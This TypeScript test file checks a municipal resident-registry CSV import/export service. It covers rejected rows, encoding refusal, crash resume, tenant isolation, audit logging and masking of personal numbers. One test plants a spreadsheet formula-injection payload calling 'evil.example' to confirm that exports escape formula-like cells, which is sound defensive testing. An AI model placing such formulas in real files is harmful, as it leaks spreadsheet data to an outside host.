// SPDX-License-Identifier: EUPL-1.2
// CSV import/export on a real database: all-or-nothing, reject report, resume after a crash, round trip.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { demoAddressFiles } from '../addresses/demo-address-data.ts';
import { fixedClock } from '../../../platform/clock.ts';
import { withTenant } from '../../../platform/tenancy/tenant-transaction.ts';
import { createServices } from '../../../services.ts';
import { openTestDatabase } from '../../../../test/test-database.ts';
import { createMyNumberCipher } from '../numbers/my-number-cipher.ts';
import { loadMyNumberKeys } from '../registry.config.ts';
import { generateRegistryCsv } from './registry-csv-generate.ts';
import { createRegistryCsvService, CsvImportRefused } from './registry-csv.service.ts';
import type { RowProblem } from './registry-csv-rows.ts';
import { CSV_COLUMNS, CSV_HEADER, csvRecordLine, headerIndex, readCsvRecords, toRow } from './registry-csv-format.ts';

const M = '202151';
type Db = Awaited<ReturnType<typeof openTestDatabase>>;

function demoCsv(persons: number, seed = 't'): string {
  let s = '';
  for (const part of generateRegistryCsv({ municipalityCode: M, persons, seed })) s += part;
  return s;
}
const source = (text: string | Buffer) => () => (async function* () {
  const b = Buffer.isBuffer(text) ? text : Buffer.from(text);
  for (let i = 0; i < b.length; i += 4096) yield b.subarray(i, i + 4096);
})();

describe('registry CSV import and export', () => {
  let db: Db;
  let csv: ReturnType<typeof createRegistryCsvService>;
  const good = demoCsv(300);

  beforeAll(async () => {
    db = await openTestDatabase();
    const services = createServices(db, { sessionIdleSeconds: 3600, sessionMaxSeconds: 3600 });
    await services.tenants.loadReferenceData();
    await services.tenants.onboard(M);
    await services.registry.loadAddressMaster(M, demoAddressFiles(M)!, 'test');
    csv = createRegistryCsvService({ db, cipher: createMyNumberCipher(loadMyNumberKeys({})), clock: fixedClock('2026-05-01T00:00:00Z') });
  });
  afterAll(async () => db.drop());

  const exportText = async (o: { asOf?: string; includeRemoved?: boolean } = {}) => {
    let s = '';
    await csv.exportCsv(M, (c) => { s += c; }, { includeRemoved: true, includeMyNumber: true, ...o });
    return s;
  };
  const counts = () => withTenant(db, M, async (trx) => ({
    persons: Number((await trx.selectFrom('registry.person').select((eb) => eb.fn.countAll().as('n')).executeTakeFirstOrThrow()).n),
    snapshots: Number((await trx.selectFrom('registry.personSnapshot').select((eb) => eb.fn.countAll().as('n')).executeTakeFirstOrThrow()).n),
  }));
  const wipe = () => db.runScript(`DELETE FROM registry.person_current; DELETE FROM registry.person_snapshot; DELETE FROM registry.my_number_vault;
    DELETE FROM registry.person; DELETE FROM registry.change; DELETE FROM registry.household; DELETE FROM registry.import_job;`);

  it('reports every bad row with its reason and imports nothing', async () => {
    const lines = good.split('\r\n');
    lines[3] = lines[3]!.replace(/,世帯主,|,妻,|,子,/, ',孫,');
    lines[5] = lines[5]!.replace(/,(男|女),/, ',不明,');
    lines[7] = lines[1]!; // duplicate of row 2
    const problems: RowProblem[] = [];
    await expect(csv.importCsv(M, source(lines.join('\r\n')), { onProblem: (p) => problems.push(p) })).rejects.toMatchObject({ code: 'rejected-rows' });
    expect(problems.map((p) => [p.line, p.column])).toEqual(expect.arrayContaining([[4, '続柄'], [6, '性別'], [8, '宛名番号'], [8, '住民票コード']]));
    expect(problems.every((p) => p.reason.length > 0)).toBe(true);
    expect(await counts()).toEqual({ persons: 0, snapshots: 0 });
  });

  it('refuses Shift_JIS with a hint', async () => {
    const sjis = Buffer.concat([Buffer.from([0x88, 0xb6, 0x96, 0xbc, 0x94, 0xd4, 0x8d, 0x86, 0x2c]), Buffer.from('x\r\n')]);
    await expect(csv.importCsv(M, source(sjis))).rejects.toThrow(/Shift_JIS/);
  });

  it('imports a good file with history as 職権記載, and export → import → export gives identical bytes', async () => {
    const r = await csv.importCsv(M, source(good), { batchSize: 50 });
    expect(r.rows).toBe(good.split('\r\n').length - 2);
    const change = await withTenant(db, M, (trx) => trx.selectFrom('registry.change').select(['kind', 'reasonCode', 'status', 'note']).executeTakeFirstOrThrow());
    expect(change).toMatchObject({ kind: 'ex-officio-entry', reasonCode: 'A04', status: 'final' });
    expect(change.note).toContain('移行');
    const first = await exportText();
    expect(first).toBe(good);
    await expect(csv.importCsv(M, source(good))).rejects.toMatchObject({ code: 'already-imported' });
    await wipe();
    await csv.importCsv(M, source(first));
    expect(await exportText()).toBe(first);
    // Living residents only, and as of a date before everyone arrived: fewer rows.
    expect((await exportText({ includeRemoved: false })).length).toBeLessThan(first.length);
    expect((await exportText({ asOf: '1990-01-01' })).split('\r\n').length).toBeLessThan(first.split('\r\n').length);
  });

  it('refuses a second file into a municipality with residents unless --append, and then finds duplicates', async () => {
    const other = demoCsv(20, 'other');
    await expect(csv.importCsv(M, source(other))).rejects.toMatchObject({ code: 'not-empty' });
    const problems: RowProblem[] = [];
    await expect(csv.importCsv(M, source(other), { append: true, onProblem: (p) => problems.push(p) })).rejects.toMatchObject({ code: 'rejected-rows' });
    expect(problems.some((p) => p.reason.includes('既に登録'))).toBe(true);
  });

  it('resumes after a crash between batches with the same result as an uninterrupted import', async () => {
    await wipe();
    const uninterrupted = await (async () => { await csv.importCsv(M, source(good), { batchSize: 40 }); return exportText(); })();
    await wipe();
    await expect(csv.importCsv(M, source(good), { batchSize: 40, afterBatch: (n) => { if (n === 3) throw new Error('simulated crash'); } })).rejects.toThrow('simulated crash');
    const partial = await counts();
    expect(partial.persons).toBeGreaterThan(0);
    await expect(csv.importCsv(M, source(good), { batchSize: 40 })).rejects.toMatchObject({ code: 'interrupted' });
    const r = await csv.importCsv(M, source(good), { batchSize: 40, resume: true });
    expect(r.resumedFrom).toBe(partial.persons);
    expect(await exportText()).toBe(uninterrupted);
    expect((await counts()).persons).toBe(r.rows);
  });

  it('keeps tenants apart: the job and the rows are visible only to their municipality', async () => {
    const seen = await withTenant(db, '202029', (trx) => trx.selectFrom('registry.importJob').selectAll().execute());
    expect(seen).toEqual([]);
  });

  // Issue #15 (defect 5): text cells that a spreadsheet would run as formulas are written with a leading
  // apostrophe; the import removes it, so export → import → export still gives identical bytes.
  it('guards formula-like text cells on export and round-trips them exactly', async () => {
    await wipe();
    const records: string[][] = [];
    for await (const r of readCsvRecords(source(good)())) records.push(r.fields);
    const col = (name: (typeof CSV_COLUMNS)[number]) => CSV_COLUMNS.indexOf(name);
    const evil = '=HYPERLINK("http://evil.example/?"&A1,"詳細")';
    const row = [...records[1]!];
    row[col('住所_方書')] = evil;
    row[col('転入前住所')] = '-';
    row[col('本籍')] = row[col('本籍')] ? '@本籍' : '';
    const file = [CSV_HEADER, ...records.slice(1).map((r, i) => csvRecordLine(i === 0 ? row : r))].join('');
    expect(file).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""詳細"")"`);
    await csv.importCsv(M, source(file));
    const exported = await exportText();
    expect(exported).toBe(file);
    // No text cell of the export starts with a formula character; the stored value is the original.
    for await (const r of readCsvRecords(source(exported)())) {
      for (const [i, v] of r.fields.entries()) if (!['記載順位'].includes(CSV_COLUMNS[i]!)) expect(v, CSV_COLUMNS[i]).not.toMatch(/^[=+@\t\r]/);
    }
    const header = headerIndex(CSV_COLUMNS as unknown as string[]).index;
    const back: string[][] = [];
    for await (const r of readCsvRecords(source(exported)())) back.push(r.fields);
    const stored = back.map((f) => toRow(f, header)).find((r) => r['住所_方書'] === evil);
    expect(stored?.['転入前住所']).toBe('-');
  });

  // Issue #15 (defect 6): a bulk export wrote every 個人番号 in clear and left no access-log entry.
  it('logs exports and imports as batch accesses with their purpose, and exports 個人番号 only when asked', async () => {
    const log = () => withTenant(db, M, (trx) => trx.selectFrom('audit.accessLog').selectAll().where('action', 'in', ['registry.export', 'registry.import']).orderBy('seq').execute());
    const before = (await log()).length;
    let plain = '';
    const exported = await csv.exportCsv(M, (c) => { plain += c; }, { purpose: '統計用抽出', operatorId: 'cli:ops' });
    expect(plain.split('\r\n').length).toBeGreaterThan(10);
    const myNumberAt = CSV_COLUMNS.indexOf('個人番号');
    for await (const r of readCsvRecords(source(plain)())) if (r.line > 1) expect(r.fields[myNumberAt]).toBe('');
    expect(await exportText()).toMatch(/,\d{12},/);
    const entries = (await log()).slice(before);
    expect(entries.filter((e) => e.subjectType !== 'person').map((e) => [e.action, e.actorType, e.purpose, e.myNumberAccessed])).toEqual([
      ['registry.export', 'operator', '統計用抽出', false],
      ['registry.export', 'operator', '住民記録の出力（CSV）', true],
    ]);
    expect((await log()).some((e) => e.action === 'registry.import' && e.myNumberAccessed)).toBe(true);
    // Spec §10.2: every exported and imported person has an entry of their own (one per person per export).
    const persons = await withTenant(db, M, (trx) => trx.selectFrom('registry.person').select('personId').execute());
    const perPerson = entries.filter((e) => e.subjectType === 'person');
    const firstExport = perPerson.filter((e) => e.purpose === '統計用抽出');
    expect(firstExport.length).toBe(exported.rows);
    expect(new Set(firstExport.map((e) => e.subjectId)).size).toBe(exported.rows);
    const known = new Set(persons.map((p) => p.personId));
    expect(firstExport.every((e) => known.has(e.subjectId))).toBe(true);
    expect(firstExport.every((e) => !e.myNumberAccessed)).toBe(true);
    expect(perPerson.filter((e) => e.purpose === '住民記録の出力（CSV）' && e.myNumberAccessed).length).toBeGreaterThan(0);
    const imported = (await log()).filter((e) => e.action === 'registry.import' && e.subjectType === 'person');
    const importedIds = new Set(imported.map((e) => e.subjectId));
    expect(persons.every((p) => importedIds.has(p.personId))).toBe(true);
  });

  it('is refused as a CsvImportRefused for an empty file', async () => {
    await expect(csv.importCsv(M, source(''))).rejects.toBeInstanceOf(CsvImportRefused);
  });
});
